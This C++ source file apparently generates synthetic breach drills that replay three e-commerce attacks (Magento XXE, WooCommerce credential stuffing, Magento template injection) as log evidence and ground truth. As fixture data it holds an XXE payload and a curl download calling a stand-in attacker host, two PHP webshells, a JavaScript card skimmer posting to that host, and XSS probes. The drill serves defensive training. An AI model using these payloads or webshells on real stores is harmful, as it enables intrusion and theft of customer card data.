// The breach scenarios, each modelled on public write-ups of real store breaches:
//   cosmicsting   Magento 2.4.6-p5, CVE-2024-34102 XXE through the REST API, env.php crypt key
//                 read out of band, admin JWT forged with it, skimmer written into a CMS block.
//   woo-stuffing  WooCommerce, credential stuffing on wp-login.php / xmlrpc.php from many
//                 addresses, admin login, webshell uploaded as a plugin, database dumped and
//                 downloaded.
//   trojanorder   Magento 2.4.3-p1, CVE-2022-24086 template injection at checkout, webshell in
//                 pub/media, skimmer appended to a checkout JS file in pub/static, rogue admin
//                 and API token, database dumped and downloaded.
// Each writes its requests (with evidence slots), platform log lines and the ground truth.
#include <algorithm>

#include "drill/schedule.h"

namespace tq::drill {

const std::vector<ScenarioInfo>& Scenarios() {
  static const std::vector<ScenarioInfo> k = {
      {"cosmicsting", "magento",
       "Magento 2.4.6-p5: CVE-2024-34102 XXE via REST, crypt key stolen, CMS block skimmer"},
      {"woo-stuffing", "woocommerce",
       "WooCommerce: credential stuffing, admin login, plugin webshell, database dumped"},
      {"trojanorder", "magento",
       "Magento 2.4.3-p1: CVE-2022-24086 at checkout, pub/media webshell, JS skimmer, dump"},
  };
  return k;
}

namespace {

const char kXxeBody[] =
    "{\"address\":{\"totalsReader\":{\"collectorList\":{\"totalCollector\":{\"sourceData\":{"
    "\"data\":\"<?xml version=\\\"1.0\\\" ?><!DOCTYPE r [<!ELEMENT r ANY ><!ENTITY % sp SYSTEM "
    "\\\"http://cdn-jstatic.test/dtd.xml\\\">%sp;%param1;]><r>&exfil;</r>\",\"dataIsURL\":true,"
    "\"options\":16}}}}}}";

// Hostile bytes every scenario carries: markup, ANSI escapes and invalid UTF-8 from scanners.
void AddHostileProbes(const Store& s, Rng& r, UnixMicros t, Breach* b) {
  uint32_t ip1 = (104u << 24) | (248u << 16) | (140u << 8) | 17u;
  uint32_t ip2 = (162u << 24) | (243u << 16) | (9u << 8) | 201u;
  b->truth.benign.push_back({ip1, "scanner"});
  b->truth.benign.push_back({ip2, "scanner"});
  int e1 = AddEvidence(b, t, ip1, "GET", "/catalogsearch/result/?q=%3Cscript%3Ealert(1)%3C%2Fscript%3E",
                       s.spec.platform == Platform::kMagento ? 200 : 404, 21480,
                       "Mozilla/5.0 <script>alert(document.domain)</script><img src=x onerror=alert(1)>",
                       "javascript:alert(1)//");
  b->truth.hostile.push_back({e1, "html_in_user_agent"});
  int e2 = AddEvidence(b, t + 41 * kSec, ip2, "GET", "/.git/HEAD", 403, 153,
                       "\x1b]0;owned\x07\x1b[2J\x1b[1;31mcurl/8.4.0\x1b[0m\r\n",
                       "http://x.test/\xC3\x28\xA0\xA1\xFF\xFE");
  b->truth.hostile.push_back({e2, "ansi_escape_and_invalid_utf8"});
  (void)r;
}

// A ~1 MB platform log line (an exception carrying a scanner's oversized parameter).
void AddLongLine(const Store& s, UnixMicros t, Breach* b) {
  std::string big(1 << 20, 'A');
  for (size_t i = 0; i < big.size(); i += 97) big[i] = static_cast<char>('0' + i % 10);
  PlatformLogLine l;
  l.t = t;
  l.file = 1;
  if (s.spec.platform == Platform::kMagento) {
    l.text = "[" + SqlDateTime(t).replace(10, 1, "T") +
             ".000000+00:00] main.CRITICAL: Invalid parameter value provided: \"q\" = \"" + big +
             "\" {\"exception\":\"[object] (Magento\\\\Framework\\\\Exception\\\\InputException"
             "(code: 0): Invalid parameter value at /var/www/html/vendor/magento/framework/"
             "Webapi/ServiceInputProcessor.php:290)\"} []";
  } else {
    l.text = "[" + SqlDateTime(t) + " UTC] PHP Warning:  preg_match(): Compilation failed for "
             "input " + big + " in /var/www/html/wp-includes/class-wp-query.php on line 1428";
  }
  l.evidence = b->NewEvidence();
  b->truth.hostile.push_back({l.evidence, "long_line_1mb"});
  b->platform_lines.push_back(std::move(l));
}

PlatformLogLine MagentoLog(UnixMicros t, int file, const std::string& level,
                           const std::string& msg) {
  std::string ts = SqlDateTime(t);
  ts[10] = 'T';
  return {t, file, "[" + ts + ".000000+00:00] main." + level + ": " + msg, -1};
}

void Attacker(Breach* b, uint32_t ip, const char* role) {
  for (auto& a : b->truth.attackers) {
    if (a.first == ip) return;
  }
  b->truth.attackers.push_back({ip, role});
}

// ---------------------------------------------------------------------------------------
void CosmicSting(uint64_t seed, Store* s, Breach* b) {
  Rng r(seed, 10);
  Truth& tr = b->truth;
  const std::string site = "https://" + s->spec.host;
  int a = std::max(2, s->spec.days * 3 / 10);
  UnixMicros t0 = s->spec.log_start + a * kDay + 2 * kHour + 13 * kMin + 7 * kSec;
  uint32_t recon = AttackerIp(r), exploit = AttackerIp(r), inject = AttackerIp(r),
           verify = AttackerIp(r);
  std::string_view ua = AttackerUa(r);
  Attacker(b, recon, "intruder");
  Attacker(b, exploit, "intruder");
  Attacker(b, inject, "intruder");
  Attacker(b, verify, "intruder");
  int ev = AddEvidence(b, t0, recon, "GET", "/magento_version", 200, 23, ua);
  Step(b, t0, "recon", "read the Magento version banner", recon, ev);
  AddRequest(b, t0 + 2 * kSec, recon, "GET", "/static/deployed_version.txt", 200, 10, ua);
  AddRequest(b, t0 + 4 * kSec, recon, "GET", "/rest/V1/store/storeConfigs", 200, 1187, ua);
  UnixMicros t1 = t0 + 47 * kMin + 31 * kSec;
  std::string mask = r.Alnum(32);
  AddRequest(b, t1, exploit, "POST", "/rest/V1/guest-carts", 200, 34, ua);
  ua = AttackerUa(r);
  int ev_x1 = AddEvidence(b, t1 + 3 * kSec, exploit, "POST",
                          "/rest/V1/guest-carts/" + mask + "/estimate-shipping-methods", 400, 127,
                          ua, "", kXxeBody);
  Request& entry = b->requests.back();
  tr.technique = "XXE via REST API (CosmicSting)";
  tr.cve = "CVE-2024-34102";
  tr.entry_time = entry.t;
  tr.entry_ip = exploit;
  tr.entry_request = RequestLine(entry);
  tr.entry_evidence = ev_x1;
  Step(b, t1 + 3 * kSec, "exploit",
       "XXE payload in the estimate-shipping-methods body (sourceData, dataIsURL): file read "
       "out of band through an external DTD",
       exploit, ev_x1);
  int ev_x2 = AddEvidence(b, t1 + 3 * kMin + 11 * kSec, exploit, "POST",
                          "/rest/V1/guest-carts/" + mask + "/estimate-shipping-methods", 400, 127,
                          ua, "", kXxeBody);
  Step(b, t1 + 3 * kMin + 11 * kSec, "read_secrets",
       "second XXE read app/etc/env.php: crypt key and database password sent to the attacker",
       exploit, ev_x2);
  PlatformLogLine xl = MagentoLog(
      t1 + 3 * kSec, 1, "CRITICAL",
      "Warning: DOMDocument::loadXML(): Entity 'exfil' not defined in Entity, line: 1 in "
      "/var/www/html/vendor/magento/framework/Xml/Security.php on line 91 {\"exception\":\"[object] "
      "(Exception(code: 0): Warning: DOMDocument::loadXML(): Entity 'exfil' not defined at "
      "/var/www/html/vendor/magento/framework/App/ErrorHandler.php:62)\"} []");
  xl.evidence = b->NewEvidence();
  b->platform_lines.push_back(xl);
  Step(b, t1 + 3 * kSec, "exploit_error", "the XXE left a DOMDocument error in exception.log",
       exploit, xl.evidence);
  tr.secrets = {{"crypt_key", "app/etc/env.php"}, {"db_password", "app/etc/env.php"}};

  UnixMicros t2 = t1 + 2 * kHour + 5 * kMin;
  ua = AttackerUa(r);
  int ev_f = AddEvidence(b, t2, inject, "GET", "/rest/V1/cmsBlock/search?searchCriteria[pageSize]=50",
                         200, 8845, ua);
  Step(b, t2, "forge_token",
       "admin JWT forged with the stolen crypt key (no login, no token row) used to list CMS blocks",
       inject, ev_f);
  UnixMicros t3 = t2 + 6 * kMin + 40 * kSec;
  b->skimmer_block_id = 5;
  int ev_i = AddEvidence(b, t3, inject, "PUT", "/rest/V1/cmsBlock/5", 200, 2391, ua, "",
                         "{\"block\":{\"identifier\":\"footer_links_block\",\"content\":\"...\"}}");
  Step(b, t3, "inject", "skimmer loader written into CMS block 5 (footer, shown on every page)",
       inject, ev_i);
  b->cms_skimmer_html =
      "<ul class=\"footer links\"><li><a href=\"/about-us\">About us</a></li><li><a "
      "href=\"/customer-service\">Customer Service</a></li></ul><script>(function(){var "
      "s=document.createElement('script');s.src='https://cdn-jstatic.test/lib/jquery.min.js?v='+"
      "Date.now();document.head.appendChild(s);})();</script>";
  tr.db_injections.push_back({"cms_block", "block_id", 5, "content", "skimmer", t3});
  PlatformLogLine cl = MagentoLog(
      t3 + 1 * kSec, 0, "INFO",
      "cache_invalidate:  {\"method\":\"PUT\",\"url\":\"" + site +
          "/rest/V1/cmsBlock/5\",\"invalidateInfo\":{\"tags\":[\"cms_b\",\"cms_b_5\","
          "\"cms_b_footer_links_block\"],\"mode\":\"matchingAnyTag\"}} []");
  cl.evidence = b->NewEvidence();
  b->platform_lines.push_back(cl);
  UnixMicros t4 = t3 + 9 * kMin;
  ua = AttackerUa(r);
  int ev_v = AddEvidence(b, t4, verify, "GET", "/", 200, 41233, ua);
  AddRequest(b, t4 + 20 * kSec, verify, "GET", "/checkout/cart/", 200, 33980, ua, site + "/");
  Step(b, t4, "verify", "attacker loaded the home page to check the skimmer", verify, ev_v);
  UnixMicros t5 = t3 + 3 * kDay + 5 * kHour;
  if (t5 < s->spec.log_end - kHour) {
    int ev_r = AddEvidence(b, t5, verify, "GET", "/rest/V1/cmsBlock/5", 200, 2391, AttackerUa(r));
    Step(b, t5, "revisit", "forged token used again to check the injected block", verify, ev_r);
  }
  tr.skimmer_start = t3;
  tr.skimmer_end = s->spec.log_end;
  Step(b, t3, "skim", "card data typed at checkout sent to cdn-jstatic.test until discovery",
       inject, -1);
  for (int i : CardOrdersBetween(*s, t3, s->spec.log_end)) AddCardVictim(*s, s->orders[i], b);
  tr.data_categories = {"name", "email", "phone", "postal_address", "payment_card"};
  tr.vuln_ecosystem = "Packagist";
  tr.vuln_package = "magento/product-community-edition";
  tr.vuln_version = s->spec.version;
  tr.vuln_fixed = "2.4.6-p6";
  tr.weakness = "security patch for CVE-2024-34102 (APSB24-40) not applied for weeks; no WAF "
                "rule on REST bodies";
}

// ---------------------------------------------------------------------------------------
void Stuffing(uint64_t seed, Store* s, Breach* b) {
  Rng r(seed, 11);
  Truth& tr = b->truth;
  const std::string site = "https://" + s->spec.host;
  int a = std::max(2, s->spec.days * 3 / 10);
  UnixMicros t0 = s->spec.log_start + a * kDay + 1 * kHour + 2 * kMin;
  std::vector<uint32_t> pool;
  for (int i = 0; i < 40; ++i) pool.push_back(AttackerIp(r));
  for (uint32_t ip : pool) Attacker(b, ip, "credential_stuffing");
  uint64_t attempts = std::clamp<uint64_t>(s->spec.requests / 60, 300, 6000);
  UnixMicros span = 5 * kHour;
  int first_ev = -1;
  for (uint64_t i = 0; i < attempts; ++i) {
    UnixMicros t = t0 + static_cast<int64_t>(span * static_cast<double>(i) / attempts) +
                   static_cast<int64_t>(r.Below(5 * kSec));
    uint32_t ip = pool[r.Below(pool.size())];
    bool xml = r.Chance(0.45);
    if (i == 0) {
      first_ev = AddEvidence(b, t, ip, "POST", "/wp-login.php", 200, 4611, AttackerUa(r),
                             site + "/wp-login.php", "log=admin&pwd=Summer2024%21&wp-submit=Log+In");
      Request& e = b->requests.back();
      tr.entry_time = e.t;
      tr.entry_ip = ip;
      tr.entry_request = RequestLine(e);
      tr.entry_evidence = first_ev;
      continue;
    }
    if (xml) {
      AddRequest(b, t, ip, "POST", "/xmlrpc.php", 200, 420 + r.Below(2000), AttackerUa(r));
    } else {
      AddRequest(b, t, ip, "POST", "/wp-login.php", 200, 4600 + r.Below(30), AttackerUa(r),
                 site + "/wp-login.php");
    }
  }
  tr.technique = "credential stuffing (wp-login.php, xmlrpc.php system.multicall)";
  tr.cve = "";
  Step(b, tr.entry_time, "credential_stuffing",
       std::to_string(attempts) + " login attempts from " + std::to_string(pool.size()) +
           " addresses over 5 hours",
       tr.entry_ip, first_ev);
  uint32_t intr = AttackerIp(r), exfil = AttackerIp(r);
  Attacker(b, intr, "intruder");
  Attacker(b, exfil, "exfiltration");
  std::string_view ua = AttackerUa(r);
  UnixMicros t1 = t0 + span + 17 * kMin;
  int ev_l = AddEvidence(b, t1, intr, "POST", "/wp-login.php", 302, 0, ua, site + "/wp-login.php");
  AddRequest(b, t1 + 1 * kSec, intr, "GET", "/wp-admin/", 200, 70211, ua, site + "/wp-login.php");
  Step(b, t1, "login", "logged in as 'admin' with a password reused from another breach", intr,
       ev_l);
  UnixMicros t2 = t1 + 4 * kMin;
  AddRequest(b, t2, intr, "GET", "/wp-admin/plugin-install.php?tab=upload", 200, 38110, ua,
             site + "/wp-admin/plugins.php");
  int ev_u = AddEvidence(b, t2 + 35 * kSec, intr, "POST", "/wp-admin/update.php?action=upload-plugin",
                         200, 6120, ua, site + "/wp-admin/plugin-install.php?tab=upload");
  Step(b, t2 + 35 * kSec, "upload", "uploaded plugin wp-cache-helper.zip holding a webshell", intr,
       ev_u);
  AddRequest(b, t2 + 41 * kSec, intr, "GET",
             "/wp-admin/plugins.php?action=activate&plugin=wp-cache-helper%2Fwp-cache-helper.php&_wpnonce=" +
                 r.Hex(10), 302, 0, ua, site + "/wp-admin/update.php?action=upload-plugin");
  const std::string shell = "/wp-content/plugins/wp-cache-helper/wp-cache-helper.php";
  TruthFile f;
  f.path = shell.substr(1);
  f.change = "added";
  f.kind = "webshell";
  f.real_time = f.mtime = t2 + 35 * kSec;
  f.content =
      "<?php\n/**\n * Plugin Name: WP Cache Helper\n * Description: Improves object cache "
      "performance.\n * Version: 1.2.4\n * Author: WP Performance Team\n */\n"
      "if (isset($_POST['c']) && md5($_POST['k']) === '5f4dcc3b5aa765d61d8327deb882cf99') {\n"
      "    $f = 'sys' . 'tem';\n    $f(base64_decode($_POST['c']));\n    exit;\n}\n";
  tr.files.push_back(f);
  UnixMicros t3 = t2 + 12 * kMin;
  int ev_w = AddEvidence(b, t3, intr, "POST", shell, 200, 1312, ua, "", "k=password&c=aWQ7dW5hbWUgLWE=");
  Step(b, t3, "webshell", "first command through the plugin webshell (id; uname -a)", intr, ev_w);
  AddRequest(b, t3 + 30 * kSec, intr, "POST", shell, 200, 3433, ua);  // cat wp-config.php
  PlatformLogLine dl{t3 - 20 * kSec, 0,
                     "[" + SqlDateTime(t3 - 20 * kSec).substr(0, 19) +
                         " UTC] PHP Warning:  Undefined array key \"c\" in /var/www/html" + shell +
                         " on line 8",
                     -1};
  {
    // WordPress writes "[14-Mar-2025 16:02:11 UTC]"; build that form.
    Civil c = ToCivil((t3 - 20 * kSec) / kSec);
    static const char* kMon[] = {"Jan", "Feb", "Mar", "Apr", "May", "Jun",
                                 "Jul", "Aug", "Sep", "Oct", "Nov", "Dec"};
    char head[40];
    std::snprintf(head, sizeof head, "[%02d-%s-%04d %02d:%02d:%02d UTC]", c.day, kMon[c.month - 1],
                  c.year, c.hour, c.minute, c.second);
    dl.text = std::string(head) + " PHP Warning:  Undefined array key \"c\" in /var/www/html" +
              shell + " on line 8";
  }
  dl.evidence = b->NewEvidence();
  b->platform_lines.push_back(dl);
  Step(b, dl.t, "webshell_probe", "the webshell's first load left a PHP warning in debug.log",
       intr, dl.evidence);
  tr.secrets = {{"DB_PASSWORD", "wp-config.php"}, {"AUTH_KEY", "wp-config.php"},
                {"SECURE_AUTH_KEY", "wp-config.php"}, {"admin_password", "wp_users"}};
  // Persistence: a backdoor admin and a WooCommerce REST key.
  UnixMicros t4 = t3 + 6 * kMin;
  int ev_a = AddEvidence(b, t4, intr, "POST", shell, 200, 88, ua, "",
                         "k=password&c=d3AgdXNlciBjcmVhdGUgLi4u");
  AdminUser rogue;
  rogue.id = static_cast<uint32_t>(s->customers.size() + s->admins.size() + 1);
  rogue.username = "wp_support";
  rogue.first = "WP";
  rogue.last = "Support";
  rogue.email = "wp.support.team@proton.me";
  rogue.password_hash = "$P$B" + r.Alnum(31);
  rogue.created = t4;
  rogue.legit = false;
  b->rogue_admins.push_back(rogue);
  tr.rogue_accounts.push_back({"wp_users", "ID", rogue.id, rogue.username, t4});
  Step(b, t4, "persistence", "backdoor administrator 'wp_support' created through the webshell",
       intr, ev_a);
  int ev_k = AddEvidence(b, t4 + 3 * kMin, intr, "POST", "/wp-admin/admin-ajax.php", 200, 412, ua,
                         site + "/wp-admin/admin.php?page=wc-settings&tab=advanced&section=keys&create-key=1",
                         "action=woocommerce_update_api_key&description=sync&permissions=read_write");
  b->tokens.push_back({2, 1, r.Hex(64), t4 + 3 * kMin});
  tr.tokens.push_back({"wp_woocommerce_api_keys", "key_id", 2, "rest_api_key"});
  Step(b, t4 + 3 * kMin, "persistence", "read/write WooCommerce REST API key created", intr, ev_k);
  // Dump and download.
  UnixMicros t5 = t4 + 26 * kMin;
  Civil c = ToCivil(t5 / kSec);
  char dir[64];
  std::snprintf(dir, sizeof dir, "wp-content/uploads/%04d/%02d/", c.year, c.month);
  b->leak_path = std::string(dir) + ".sess-" + r.Hex(6) + ".sql.gz";
  b->leak_time = t5;
  b->leak_tables = {"wp_users", "wp_usermeta", "wp_wc_orders", "wp_wc_order_addresses",
                    "wp_wc_customer_lookup", "wp_woocommerce_order_items"};
  int ev_d = AddEvidence(b, t5, intr, "POST", shell, 200, 64, ua, "",
                         "k=password&c=bXlzcWxkdW1wIC4uLg==");
  Step(b, t5, "dump", "customer and order tables dumped to " + b->leak_path, intr, ev_d);
  UnixMicros t6 = t5 + 2 * kMin + 13 * kSec;
  int ev_dl = AddEvidence(b, t6, exfil, "GET", "/" + b->leak_path, 200, 0, AttackerUa(r));
  b->leak_request = static_cast<int>(b->requests.size()) - 1;
  Step(b, t6, "download", "dump downloaded from a second address", exfil, ev_dl);
  AddDumpedPeople(*s, t5, {"name", "email", "phone", "postal_address", "password_hash", "ip_address"},
                  "in the dumped tables (wp_users, wp_usermeta, wp_wc_orders, wp_wc_order_addresses)",
                  b);
  tr.data_categories = {"name", "email", "phone", "postal_address", "password_hash",
                        "ip_address", "order_history", "date_of_birth"};
  tr.vuln_ecosystem = "WordPress";
  tr.vuln_package = "wordpress";
  tr.vuln_version = s->spec.wp_version;
  tr.vuln_fixed = "";
  tr.weakness = "administrator password reused from another breach, no 2FA, no login rate "
                "limit, XML-RPC enabled, plugin uploads allowed from wp-admin";
}

// ---------------------------------------------------------------------------------------
void TrojanOrder(uint64_t seed, Store* s, Breach* b) {
  Rng r(seed, 12);
  Truth& tr = b->truth;
  const std::string site = "https://" + s->spec.host;
  int a = std::max(2, s->spec.days * 3 / 10);
  UnixMicros t0 = s->spec.log_start + a * kDay + 3 * kHour + 41 * kMin;
  uint32_t recon = AttackerIp(r), exploit = AttackerIp(r), admin_ip = AttackerIp(r),
           exfil = AttackerIp(r);
  Attacker(b, recon, "intruder");
  Attacker(b, exploit, "intruder");
  Attacker(b, admin_ip, "intruder");
  Attacker(b, exfil, "exfiltration");
  std::string_view ua = AttackerUa(r);
  int ev = AddEvidence(b, t0, recon, "GET", "/magento_version", 200, 23, ua);
  Step(b, t0, "recon", "read the Magento version banner", recon, ev);
  UnixMicros t1 = t0 + 1 * kHour + 8 * kMin;
  std::string mask = r.Alnum(32);
  const std::string cart = "/rest/default/V1/guest-carts/" + mask;
  AddRequest(b, t1, exploit, "POST", "/rest/default/V1/guest-carts", 200, 34, ua);
  AddRequest(b, t1 + 2 * kSec, exploit, "POST", cart + "/items", 200, 221, ua);
  const std::string payload =
      "{{var this.getTemplateFilter().addAfterFilterCallback(system).filter(curl -s "
      "https://cdn-jstatic.test/a.txt -o pub/media/wysiwyg/.tmb/accesson.php)}}";
  int ev_e = AddEvidence(b, t1 + 5 * kSec, exploit, "POST", cart + "/shipping-information", 200,
                         2871, ua, "",
                         "{\"addressInformation\":{\"shipping_address\":{\"firstname\":\"" +
                             payload + "\",\"lastname\":\"x\"}}}");
  Request& entry = b->requests.back();
  tr.technique = "template injection at checkout (TrojanOrder)";
  tr.cve = "CVE-2022-24086";
  tr.entry_time = entry.t;
  tr.entry_ip = exploit;
  tr.entry_request = RequestLine(entry);
  tr.entry_evidence = ev_e;
  Step(b, entry.t, "exploit", "template directive in the shipping address name", exploit, ev_e);
  int ev_o = AddEvidence(b, t1 + 8 * kSec, exploit, "POST", cart + "/payment-information", 200,
                         11, ua, "", "{\"paymentMethod\":{\"method\":\"checkmo\"}}");
  Step(b, t1 + 8 * kSec, "exploit",
       "order placed: the confirmation e-mail template ran the directive (curl writes a webshell)",
       exploit, ev_o);
  // The attacker's order with the payload stays in the database.
  Order o;
  o.first = payload;
  o.last = "x";
  o.email = "jerry.x" + r.Hex(4) + "@mailinator.com";
  o.phone = "0000000000";
  o.addr = {"1 Main St", "New York", "10001", "NY", "New York", "US"};
  o.time = t1 + 8 * kSec;
  o.pay = PayKind::kCheckMo;
  o.items.push_back({0, 1});
  o.subtotal = s->products[0].price;
  o.grand = o.subtotal + 5.95;
  o.shipping = 5.95;
  o.status = "pending";
  o.ip = exploit;
  o.ua = std::string(ua);
  b->extra_orders.push_back(o);
  tr.db_injections.push_back({"sales_order_address", "entity_id", 0, "firstname",
                              "exploit_payload", o.time});  // pk filled by the dump writer
  PlatformLogLine el = MagentoLog(
      t1 + 9 * kSec, 1, "CRITICAL",
      "Error filtering template: Warning: system(): Cannot execute a blank command in "
      "/var/www/html/vendor/magento/framework/Filter/Template.php on line 369 {\"exception\":"
      "\"[object] (Exception(code: 0): Warning: system(): Cannot execute a blank command at "
      "/var/www/html/vendor/magento/framework/App/ErrorHandler.php:61)\"} []");
  el.evidence = b->NewEvidence();
  b->platform_lines.push_back(el);
  Step(b, el.t, "exploit_error", "template filter error in exception.log", exploit, el.evidence);
  const std::string shell = "/media/wysiwyg/.tmb/accesson.php";
  UnixMicros t2 = t1 + 4 * kMin + 12 * kSec;
  TruthFile w;
  w.path = "pub" + shell;
  w.change = "added";
  w.kind = "webshell";
  w.real_time = t1 + 9 * kSec;
  w.mtime = s->spec.installed + 5 * kDay + 3 * kHour;  // timestomped to match its neighbours
  w.content = "<?php if(isset($_REQUEST['0'])){$a=str_rot13('flfgrz');@$a($_REQUEST['0']);}"
              "else{echo '<form method=post><input name=0></form>';} ?>\n";
  tr.files.push_back(w);
  int ev_w = AddEvidence(b, t2, exploit, "GET", shell, 200, 45, ua);
  Step(b, t2, "webshell", "webshell in pub/media reached (mtime timestomped)", exploit, ev_w);
  UnixMicros t3 = t2 + 19 * kMin;
  int ev_a = AddEvidence(b, t3, exploit, "POST", shell, 200, 12, ua, "",
                         "0=php+bin/magento+admin:user:create+--admin-user=system_support");
  AdminUser rogue;
  rogue.id = 4;
  rogue.username = "system_support";
  rogue.first = "System";
  rogue.last = "Support";
  rogue.email = "system.support@" + s->spec.host.substr(4);
  rogue.password_hash = r.Hex(64) + ":" + r.Alnum(32) + ":3_32_2_67108864";
  rogue.created = t3;
  rogue.legit = false;
  b->rogue_admins.push_back(rogue);
  tr.rogue_accounts.push_back({"admin_user", "user_id", 4, "system_support", t3});
  Step(b, t3, "persistence", "admin 'system_support' created through the webshell", exploit, ev_a);
  UnixMicros t4 = t3 + 33 * kMin;
  ua = AttackerUa(r);
  int ev_t = AddEvidence(b, t4, admin_ip, "POST", "/rest/V1/integration/admin/token", 200, 34, ua,
                         "", "{\"username\":\"system_support\",\"password\":\"...\"}");
  b->tokens.push_back({1, 4, r.Alnum(32), t4});
  tr.tokens.push_back({"oauth_token", "entity_id", 1, "admin_token"});
  Step(b, t4, "token", "admin API token issued to the rogue admin", admin_ip, ev_t);
  AddRequest(b, t4 + 2 * kMin, admin_ip, "GET", "/admin_q7x2/", 200, 7400, ua);
  int ev_l = AddEvidence(b, t4 + 2 * kMin + 20 * kSec, admin_ip, "POST",
                         "/admin_q7x2/admin/index/index/", 302, 0, ua, site + "/admin_q7x2/");
  Step(b, t4 + 2 * kMin + 20 * kSec, "login", "rogue admin logged into the admin panel", admin_ip,
       ev_l);
  // Skimmer appended to a checkout JS file a day later.
  UnixMicros t5 = t1 + 1 * kDay + 2 * kHour + 3 * kMin;
  int ev_s = AddEvidence(b, t5, exploit, "POST", shell, 200, 0, AttackerUa(r), "",
                         "0=cat+/tmp/s.js+>>+pub/static/frontend/Magento/luma/en_US/"
                         "Magento_Checkout/js/view/payment/default.js");
  TruthFile sk;
  sk.path = "pub/static/frontend/Magento/luma/en_US/Magento_Checkout/js/view/payment/default.js";
  sk.change = "modified";
  sk.kind = "skimmer";
  sk.real_time = sk.mtime = t5;
  sk.content =
      "\n;(function(){var k='cdn-jstatic.test';document.addEventListener('change',function(e){"
      "var f=document.querySelectorAll('input,select'),d={};for(var i=0;i<f.length;i++)"
      "{if(f[i].value)d[f[i].name||f[i].id]=f[i].value}if(/\\d{13,19}/.test(JSON.stringify(d)))"
      "{var x=new XMLHttpRequest();x.open('POST','https://'+k+'/gate.php');x.send(btoa("
      "JSON.stringify(d)))}})})();\n";
  tr.files.push_back(sk);
  Step(b, t5, "inject", "card skimmer appended to the checkout payment JS in pub/static", exploit,
       ev_s);
  tr.skimmer_start = t5;
  tr.skimmer_end = s->spec.log_end;
  Step(b, t5, "skim", "card data typed at checkout posted to cdn-jstatic.test until discovery",
       exploit, -1);
  for (int i : CardOrdersBetween(*s, t5, s->spec.log_end)) AddCardVictim(*s, s->orders[i], b);
  // Dump and download two days after entry.
  UnixMicros t6 = t1 + 2 * kDay + 1 * kHour + 51 * kMin;
  b->leak_path = "pub/media/tmp/.cache/mg_" + r.Hex(8) + ".sql.gz";
  b->leak_time = t6;
  b->leak_tables = {"customer_entity", "customer_address_entity", "sales_order",
                    "sales_order_address", "sales_order_payment"};
  int ev_d = AddEvidence(b, t6, exploit, "POST", shell, 200, 0, AttackerUa(r), "",
                         "0=mysqldump+...+|+gzip+>+" + b->leak_path);
  Step(b, t6, "dump", "customer and order tables dumped to " + b->leak_path, exploit, ev_d);
  UnixMicros t7 = t6 + 4 * kMin + 2 * kSec;
  int ev_dl = AddEvidence(b, t7, exfil, "GET", "/" + b->leak_path.substr(4), 200, 0,
                          AttackerUa(r));
  b->leak_request = static_cast<int>(b->requests.size()) - 1;
  Step(b, t7, "download", "dump downloaded from a second address", exfil, ev_dl);
  TruthFile dumpf;
  dumpf.path = b->leak_path;
  dumpf.change = "added";
  dumpf.kind = "dump";
  dumpf.real_time = dumpf.mtime = t6 + 40 * kSec;
  tr.files.push_back(dumpf);
  AddDumpedPeople(*s, t6,
                  {"name", "email", "phone", "postal_address", "password_hash", "ip_address"},
                  "in the dumped tables (customer_entity, customer_address_entity, sales_order, "
                  "sales_order_address)",
                  b);
  tr.secrets = {{"crypt_key", "app/etc/env.php"}, {"db_password", "app/etc/env.php"}};
  tr.data_categories = {"name", "email", "phone", "postal_address", "password_hash",
                        "ip_address", "order_history", "date_of_birth", "payment_card"};
  tr.vuln_ecosystem = "Packagist";
  tr.vuln_package = "magento/product-community-edition";
  tr.vuln_version = s->spec.version;
  tr.vuln_fixed = "2.4.3-p2";
  tr.weakness = "Magento left on 2.4.3-p1 months after the February 2022 emergency patch "
                "(MDVA-43395/APSB22-12); PHP execution allowed under pub/media";
}

}  // namespace

Status BuildBreach(const DrillOptions& o, uint64_t seed, Store* s, Breach* b) {
  (void)o;
  AddBenignSchedule(seed, *s, b);
  Rng r(seed, 4);
  UnixMicros probe = s->spec.log_start + kDay + 14 * kHour + 7 * kMin;
  AddHostileProbes(*s, r, probe, b);
  AddLongLine(*s, probe + 3 * kHour, b);
  b->truth.benign.push_back({(69u << 24) | (162u << 16) | (124u << 8) | 226u, "monitor"});
  b->truth.benign.push_back({(216u << 24) | (245u << 16) | (221u << 8) | 82u, "monitor"});
  if (o.scenario == "cosmicsting") {
    CosmicSting(seed, s, b);
  } else if (o.scenario == "woo-stuffing") {
    Stuffing(seed, s, b);
  } else if (o.scenario == "trojanorder") {
    TrojanOrder(seed, s, b);
  } else {
    return Status::Usage("unknown scenario '" + o.scenario + "'");
  }
  // Window: first malicious action .. last one.
  return Status::Ok();
}

}  // namespace tq::drill
